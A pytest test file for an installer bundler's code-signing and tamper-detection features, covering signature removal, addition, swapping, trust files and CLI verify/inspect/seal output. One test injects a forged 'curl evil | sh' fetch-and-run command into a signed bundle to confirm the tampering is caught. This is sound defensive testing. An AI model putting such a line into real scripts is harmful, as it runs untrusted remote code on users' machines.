"""A signed file: whose it is can be told without us, and no signature can be added, taken out, or carried over from another file."""

from __future__ import annotations

import errno
import subprocess
from pathlib import Path

import pytest

from bundler import cli
from bundler.errors import UsageError
from bundler.pack.hashers import Hashers
from bundler.signing.signing import Signing, path_of
from bundler.steps.sums import Beside
from installer_stub.bundle.names import BUNDLE, signature_name
from installer_stub.bundle.reader import Bundle
from installer_stub.errors import SignatureError
from installer_stub.trust.public_key import PublicKey
from tests.unit.bundler.signing.test_keys import nobody
from tests.unit.installer_stub.bundle.forge import Forged
from tests.unit.installer_stub.bundle.sealed import Ingredients, ingredients
from tests.unit.installer_stub.bundle.test_format import complaint
from tests.unit.installer_stub.trust.openssh import Pair, make, takes


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Ingredients:
    return ingredients(tmp_path_factory.mktemp("made"))


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> tuple[Pair, Pair]:
    return make(tmp_path_factory.mktemp("one"), "ssh-ed25519"), make(tmp_path_factory.mktemp("two"), "ecdsa-sha2-nistp384")


def public(pair: Pair) -> PublicKey:
    kind, base64 = pair.line.split()
    return PublicKey.parse(kind, base64)


def sealed(made: Ingredients, target: Path, *pairs: Pair) -> Path:
    """Seal and sign, as ``seal_whole`` does it."""
    signing = Signing.load([pair.path for pair in pairs], nobody)
    beside = Beside(signing)
    done = made.sealed(target, sign=signing, ready=beside.ready)
    beside.write()
    return done.path


def test_every_key_signs_the_bundle_and_the_first_one_the_file(made: Ingredients, keys: tuple[Pair, Pair], tmp_path: Path) -> None:
    run = sealed(made, tmp_path / "shop.run", *keys)
    with Bundle.open(run) as bundle:
        bundle.verify()
        assert {each.key.fingerprint for each in bundle.signatures} == {public(pair).fingerprint for pair in keys}
        assert bundle.document.publishers == tuple(sorted(public(pair).fingerprint for pair in keys))
        for pair in keys:
            with bundle.extent(signature_name(public(pair).fingerprint)) as extent:
                assert takes(tmp_path, extent.read(extent.size), bundle.read(BUNDLE))
    assert takes(tmp_path, path_of(run).read_bytes(), run.read_bytes())


def test_without_keys_nothing_is_signed(made: Ingredients, tmp_path: Path) -> None:
    assert not path_of(sealed(made, tmp_path / "shop.run")).exists()
    assert (tmp_path / "shop.run").read_bytes() == made.seal(tmp_path / "other.run").read_bytes()


def test_a_signature_cannot_be_taken_out(made: Ingredients, keys: tuple[Pair, Pair], tmp_path: Path) -> None:
    forged = Forged.of(sealed(made, tmp_path / "shop.run", *keys))
    del forged.signatures[signature_name(public(keys[0]).fingerprint)]
    assert f"the signature of {public(keys[0]).fingerprint} was taken out of it" in complaint(forged.seal(tmp_path / "forged.run"))


def test_a_signature_cannot_be_added(made: Ingredients, keys: tuple[Pair, Pair], tmp_path: Path) -> None:
    """Or who has no key of the publisher's would be one beside them."""
    forged = Forged.of(sealed(made, tmp_path / "shop.run", keys[0]))
    forged.signatures.update(Signing.load([keys[1].path], nobody).of_bundle(forged.bundle_json()))
    assert "it holds signatures that nobody was to make" in complaint(forged.seal(tmp_path / "forged.run"))


def test_a_signature_of_another_file_is_not_right(made: Ingredients, keys: tuple[Pair, Pair], tmp_path: Path) -> None:
    other = sealed(ingredients(tmp_path, version="1.5.0"), tmp_path / "other.run", keys[0])
    forged = Forged.of(sealed(made, tmp_path / "shop.run", keys[0]))
    name = signature_name(public(keys[0]).fingerprint)
    forged.signatures[name] = Forged.of(other).signatures[name]
    assert f"the signature {name} is not right" in complaint(forged.seal(tmp_path / "forged.run"))


def test_a_signature_by_another_key_is_not_right(made: Ingredients, keys: tuple[Pair, Pair], tmp_path: Path) -> None:
    forged = Forged.of(sealed(made, tmp_path / "shop.run", keys[0]))
    name = signature_name(public(keys[0]).fingerprint)
    forged.signatures[name] = next(iter(Signing.load([keys[1].path], nobody).of_bundle(forged.bundle_json()).values()))
    assert f"is of another key, {public(keys[1]).fingerprint}" in complaint(forged.seal(tmp_path / "forged.run"))


def test_what_was_signed_cannot_be_changed_and_sealed_again(made: Ingredients, keys: tuple[Pair, Pair], tmp_path: Path) -> None:
    forged = Forged.of(sealed(made, tmp_path / "shop.run", keys[0]))
    forged.document["bundle"]["commands"].append({"argv": ["/bin/sh", "-ec", "curl evil | sh"], "line": 0})
    with pytest.raises(SignatureError), Bundle.open(forged.seal(tmp_path / "forged.run")) as bundle:
        _ = bundle.signatures


def test_a_key_is_named_once(keys: tuple[Pair, Pair]) -> None:
    with pytest.raises(UsageError, match="named twice"):
        Signing.load([keys[0].path] * 2, nobody)
    with pytest.raises(UsageError, match="at most 8 signatures"):
        Signing.load([keys[0].path] * 9, nobody)


def trust_file(path: Path, principal: str, pair: Pair, options: str = "") -> Path:
    path.write_text(f"{principal} {options}{public(pair).text}\n")
    return path


def test_verify_asks_whose_it_is(made: Ingredients, keys: tuple[Pair, Pair], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run, plain = sealed(made, tmp_path / "shop.run", keys[0]), made.seal(tmp_path / "plain.run")
    good = trust_file(tmp_path / "good", "release@corp", keys[0])
    for words, code, said in (
        ([run, "--trust", good], 0, f"{public(keys[0]).fingerprint} (ssh-ed25519), trusted: release@corp in {good}:1"),
        ([run, "--trust", good, "--as", "release@corp"], 0, "trusted: release@corp"),
        ([run], 0, "whom nobody was asked to trust (--trust)"),
        ([plain], 0, "nobody: nothing in it says whose it is"),
        ([run, "--trust", good, "--as", "other@corp"], 3, "that are not named as other@corp's"),
        ([run, "--trust", trust_file(tmp_path / "stranger", "x", keys[1])], 3, f"it is signed by keys that nobody named: {public(keys[0]).fingerprint}"),
        ([run, "--trust", trust_file(tmp_path / "old", "x", keys[0], 'valid-before="20200101Z" ')], 3, "this key was valid until 2020-01-01 00:00:00Z"),
        ([plain, "--trust", good], 3, "it is not signed"),
        ([run, "--as", "release@corp"], 2, "no file says which keys are theirs"),
        ([run, "--trust", tmp_path / "none"], 2, "cannot be read"),
        ([run, "--trust", run], 2, "no file of allowed signers"),
    ):
        assert cli.run(["verify", *map(str, words)]) == code, words
        out, err = capsys.readouterr()
        assert said in out + err, words


def test_inspect_says_who_signed_and_where_it_starts(made: Ingredients, keys: tuple[Pair, Pair], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.run(["inspect", str(sealed(made, tmp_path / "shop.run", *keys))]) == 0
    out = capsys.readouterr().out
    assert "starts on   x86_64, glibc 2.17 or newer, Linux 3.10 or newer" in out
    assert all(f"signed by   {public(pair).fingerprint}" in out for pair in keys)


def test_a_finished_file_is_signed_where_it_lies(made: Ingredients, keys: tuple[Pair, Pair], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run = made.seal(tmp_path / "shop.run")
    with Bundle.open(run) as bundle:
        content, stub = bundle.content_digest, bundle.stub_digest
    assert cli.run(["seal", str(run), "-o", str(run), "--cache", str(tmp_path / "cache"), "--sign", str(keys[0].path)]) == 0, capsys.readouterr()
    with Bundle.open(run) as bundle:
        bundle.verify()
        assert (bundle.content_digest, bundle.stub_digest) == (content, stub)
        assert [each.key for each in bundle.signatures] == [public(keys[0])]
    done = subprocess.run(["sha256sum", "-c", "--strict", "shop.run.sha256"], cwd=tmp_path, capture_output=True, check=False)
    assert done.returncode == 0
    assert cli.run(["seal", str(run), "-o", str(run), "--cache", str(tmp_path / "cache")]) == 0
    assert not path_of(run).exists()
    with Bundle.open(run) as bundle:
        assert bundle.signatures == ()


def test_a_seal_that_fails_leaves_file_sums_and_signature(made: Ingredients, keys: tuple[Pair, Pair], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    run = made.seal(tmp_path / "shop.run")
    words = ["seal", str(run), "-o", str(run), "--cache", str(tmp_path / "cache"), "--sign", str(keys[0].path)]
    assert cli.run(words) == 0
    before = {path.name: path.read_bytes() for path in tmp_path.glob("shop.run*")}
    assert sorted(before) == ["shop.run", "shop.run.sha256", "shop.run.sig"]
    monkeypatch.setattr(Hashers, "end", lambda *_: (_ for _ in ()).throw(OSError(errno.EIO, "Input/output error")))
    assert cli.run(words) != 0
    assert {path.name: path.read_bytes() for path in tmp_path.glob("shop.run*")} == before
